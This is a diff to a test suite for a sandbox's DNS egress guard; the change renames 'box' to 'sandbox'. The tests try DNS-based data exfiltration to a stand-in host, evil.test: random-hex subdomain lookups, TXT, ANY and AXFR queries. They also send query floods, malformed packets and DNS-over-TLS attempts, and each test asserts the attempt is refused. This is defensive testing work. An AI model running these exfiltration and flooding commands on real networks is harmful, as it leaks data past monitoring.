@@ -15,7 +15,7 @@ def setUpModule():
 
 class Leaks(attack.Case):
     def test_E19_questions_about_others_do_not_leave(self, user):
-        box = self.box(network=NAMES)
+        sandbox = self.sandbox(network=NAMES)
         code = """
 codes = {resolve("evil.test")[0]}
 for i in range(40):
@@ -26,40 +26,40 @@ codes |= {resolve(name)[0] for name in ("a.test.evil.test", "b.test", "test", "s
 show(sorted(codes))
 """
         with self.nothing():
-            self.assertEqual(self.probe(box, code, user), [REFUSED])
-            out = self.sh(box, "for i in 1 2 3; do getent hosts $(head -c20 /dev/urandom | xxd -p).evil.test; done; "
-                          "dig +short +tries=1 ANY evil.test; dig +short +tries=1 TXT x.evil.test; "
+            self.assertEqual(self.probe(sandbox, code, user), [REFUSED])
+            out = self.sh(sandbox, "for i in 1 2 3; do getent hosts $(head -c20 /dev/urandom | xxd -p).evil.test; "
+                          "done; dig +short +tries=1 ANY evil.test; dig +short +tries=1 TXT x.evil.test; "
                           "dig +tries=1 AXFR evil.test; true", user)
             self.assertNotIn("stolen", out)
-        self.on_record(box, kind="dns", verdict="deny", name="evil.test")
+        self.on_record(sandbox, kind="dns", verdict="deny", name="evil.test")
 
     def test_E19_whoever_is_asked_the_guard_answers(self, user):
-        box = self.box(network=NAMES)
+        sandbox = self.sandbox(network=NAMES)
         code = f"""
 show([[resolve(name, 1, host, stream) for name in ("a.test", "x.evil.test")]
       for host in {SERVERS!r} for stream in (False, True) if not (host == "127.0.0.53")])
 """
         with self.only(names=["a.test"]):
-            for good, bad in self.probe(box, code, user):
+            for good, bad in self.probe(sandbox, code, user):
                 self.assertEqual((good[0], bad), (0, [REFUSED, []]))
 
     def test_E19_allowed_names_of_other_kinds(self, user):
         """What is asked about a name that is allowed leaves; what cannot be looked at does not."""
-        box = self.box(network=NAMES)
+        sandbox = self.sandbox(network=NAMES)
         code = 'show([ask(question("a.test", kind))[3] & 15 for kind in (16, 15, 10, 255, 252, 251, 999, 41, 0)])'
         with self.only(names=["a.test"]) as seen:
-            txt, mx, *others = self.probe(box, code, user)
+            txt, mx, *others = self.probe(sandbox, code, user)
             self.assertEqual((txt, mx), (0, 0))
             self.assertEqual(set(others) - {REFUSED, NOTIMP, FORMERR}, set())
         self.assertEqual({q["type"] for q in seen.queries()} - {1, 28, 15, 16}, set())
 
     def test_E19_no_dns_over_tls(self, user):
         for policy in ({}, NAMES):
-            box = self.box(network=policy)
+            sandbox = self.sandbox(network=policy)
             hosts = (world.EVIL, world.EVIL6, world.A)
             code = f"show([attempt(tcp, host, 853, hello('a.test')) for host in {hosts!r}])"
             with self.nothing():
-                self.assertEqual(set(self.probe(box, code, user)) - {"ECONNRESET", ""}, set())
+                self.assertEqual(set(self.probe(sandbox, code, user)) - {"ECONNRESET", ""}, set())
 
     def test_E21_a_wildcard_is_no_open_door(self):
         """200 names below it in a minute, and then no more; both users at once."""
@@ -73,16 +73,16 @@ for i in range(230):
     time.sleep(max(0, 0.0215 - (time.monotonic() - began)))  # questions in a second have a limit, too
 show(codes)
 """
-        boxes = {user: self.box(network=NAMES) for user in attack.USERS}
-        for user, codes in self.both(lambda user: self.probe(boxes[user], code, user)).items():
+        sandboxes = {user: self.sandbox(network=NAMES) for user in attack.USERS}
+        for user, codes in self.both(lambda user: self.probe(sandboxes[user], code, user)).items():
             self.assertLessEqual(codes["0"], 200, user)
             self.assertGreaterEqual(codes["0"], 150, user)
             self.assertEqual(set(codes), {"0", str(REFUSED)})
-            self.on_record(boxes[user], kind="dns", verdict="deny", rule="dns budget", detail="names per minute")
+            self.on_record(sandboxes[user], kind="dns", verdict="deny", rule="dns budget", detail="names per minute")
         self.assertLessEqual(len({q["name"] for q in self.before.queries("b.test")}), 2 * 200)
 
     def test_E21_questions_in_a_second(self, user):
-        box = self.box()
+        sandbox = self.sandbox()
         code = """
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 s.connect((DNS, 53))
@@ -97,9 +97,9 @@ with contextlib.suppress(TimeoutError):
 show(codes)
 """
         with self.only(names=["a.test"]):
-            codes = self.probe(box, code, user)
+            codes = self.probe(sandbox, code, user)
         self.assertGreater(codes.get(str(REFUSED), 0), 100, codes)
-        self.on_record(box, kind="dns", verdict="deny", rule="dns budget")
+        self.on_record(sandbox, kind="dns", verdict="deny", rule="dns budget")
 
 
 class Parser(attack.Case):
@@ -132,7 +132,7 @@ class Parser(attack.Case):
     }
 
     def test_E22_malformed_questions(self, user):
-        box = self.box()
+        sandbox = self.sandbox()
         code = f"""
 messages = {self.MESSAGES!r}
 results = {{}}
@@ -145,14 +145,14 @@ show(results)
 """
         allowed = {FORMERR, NOTIMP, REFUSED, "TIMEOUT", "ECONNRESET"}
         with self.only(names=["a.test"]):
-            got = self.probe(box, "WAIT_S = 0.2\n" + code, user)
+            got = self.probe(sandbox, "WAIT_S = 0.2\n" + code, user)
             self.assertEqual({n: codes for n, codes in got.items() if not set(codes) <= allowed
                               and n not in ("trailing", "bad opt", "two opts", "65535 records")}, {})
-            self.assertIn(world.A, self.sh(box, "dig +short a.test", user))
+            self.assertIn(world.A, self.sh(sandbox, "dig +short a.test", user))
 
     def test_E22_streams_that_do_not_end(self, user):
         """Length and nothing, one byte at a time, many questions at once, a stream that is never closed."""
-        box = self.box()
+        sandbox = self.sandbox()
         code = """
 good = question("a.test")
 framed = struct.pack(">H", len(good)) + good
@@ -171,7 +171,7 @@ with connect(DNS, 53) as one, connect("8.8.8.8", 53) as two:
     show([len(attempt(slowly, one)), len(attempt(many, two))])
 """
         with self.only(names=["a.test"]):
-            self.assertEqual(self.probe(box, code, user), [2, 60])
+            self.assertEqual(self.probe(sandbox, code, user), [2, 60])
 
 
 class Liars(attack.Case):
@@ -183,7 +183,7 @@ class Liars(attack.Case):
 
     def test_E22_only_right_answers_count(self):
         names = [f"{how}.trick.test" for how in (*self.GOOD, *self.BAD)]
-        boxes = {user: self.box() for user in attack.USERS}
+        sandboxes = {user: self.sandbox() for user in attack.USERS}
         code = f"""
 import threading
 results = {{}}
@@ -198,7 +198,7 @@ show({{name: [ord(a[3]) & 15, {world.A!r} if socket.inet_aton({world.A!r}).decod
      socket.inet_aton({world.EVIL!r}).decode("latin-1") in a] if len(a) > 12 else a for name, a in results.items()}})
 """
         with self.only(names=names):
-            results = self.both(lambda user: self.probe(boxes[user], code, user))
+            results = self.both(lambda user: self.probe(sandboxes[user], code, user))
         for got in results.values():
             self.assertEqual([n for n, a in got.items() if a[2] is True], [], "lies")
             self.assertEqual({n.split(".")[0] for n, a in got.items() if a[:2] == [0, world.A]}, set(self.GOOD))
@@ -207,17 +207,17 @@ show({{name: [ord(a[3]) & 15, {world.A!r} if socket.inet_aton({world.A!r}).decod
 
     def test_E22_nor_do_connections_follow_them(self, user):
         names = [f"{how}.trick.test" for how in ("extra", "twice", "late-lie", "flood")]
-        box = self.box(network={"allowOut": ["*.trick.test"], "denyOut": ["0.0.0.0/0"]})
+        sandbox = self.sandbox(network={"allowOut": ["*.trick.test"], "denyOut": ["0.0.0.0/0"]})
         with self.only(world.A, names=names):
-            out = box.sh("; ".join(f"curl -sS -m12 http://{name}/who & " for name in names).replace("& ;",
-                                                                                                    "& ") + " wait",
-                         user=user)[1]
+            out = sandbox.sh("; ".join(f"curl -sS -m12 http://{name}/who & " for name in names).replace("& ;",
+                                                                                                        "& ") + " wait",
+                             user=user)[1]
         self.assertNotIn('"who": "evil"', out)
 
     def test_E22_no_ech_and_no_hints(self, user):
-        box = self.box(network={"allowOut": ["https.test"], "denyOut": ["0.0.0.0/0"]})
+        sandbox = self.sandbox(network={"allowOut": ["https.test"], "denyOut": ["0.0.0.0/0"]})
         with self.only(names=["https.test"]):
-            out = self.sh(box, "dig +short https.test HTTPS; dig +short https.test TYPE64", user)
+            out = self.sh(sandbox, "dig +short https.test HTTPS; dig +short https.test TYPE64", user)
         for word in ("ech", "hint", "198.41.0.4"):
             self.assertNotIn(word, out)
 
